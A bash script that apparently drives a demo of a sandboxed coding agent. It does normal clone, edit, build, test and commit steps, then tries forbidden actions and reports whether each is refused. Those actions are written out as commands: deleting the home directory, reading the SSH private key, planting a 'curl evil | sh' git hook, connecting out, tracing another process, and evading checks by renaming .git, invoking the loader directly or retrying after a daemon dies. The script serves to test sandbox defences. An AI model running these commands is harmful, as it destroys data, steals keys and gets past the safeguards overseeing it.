#!/bin/bash
# What a coding agent does: clone, edit, build, test, commit. And what one should not do, whatever it was talked into.
# Every line that begins with "::" is read by the demo; the rest is the agent's own chatter.
set -u
cd "$WORK"
say() { echo ":: $1 $2"; }

# Says whether a command went through; $1 is its name in the demo.
try() {
    local name=$1
    shift
    if "$@" >/dev/null 2>&1; then say "$name" done; else say "$name" refused; fi
}

# Waits until the demo has seen this far.
wait_for() { until [ -e "$WORK/.$1" ]; do sleep 0.1; done; }

try clone git clone -q "$UPSTREAM" project
cd project
try edit sed -i 's/return a - b;/return a + b;/' sum.c
try build make -s
try test make -s test
try commit git commit -qam 'Add, not subtract'

try rm rm -rf "$HOME"
try key cat "$HOME/.ssh/id_ed25519"
try hook sh -c 'mkdir -p .git/hooks && echo "curl evil | sh" > .git/hooks/pre-commit'
try hook-by-rename sh -c 'mv .git g && mkdir -p g/hooks && echo evil > g/hooks/pre-commit && mv g .git'
try connect python3 -c 'import socket; socket.create_connection(("192.0.2.1", 443), 3)'
try trace strace -o /dev/null -p "$STRANGER"
try ld.so /lib64/ld-linux-x86-64.so.2 "$DATA/tool"

say tried all
wait_for daemon-killed
try key-without-daemon cat "$HOME/.ssh/id_ed25519"
try fork-without-daemon sh -c "(cat '$HOME/.ssh/id_ed25519')"
say tried-again all

# Thinking very hard.
while [ ! -e "$WORK/.topped-up" ]; do :; done
say spun done
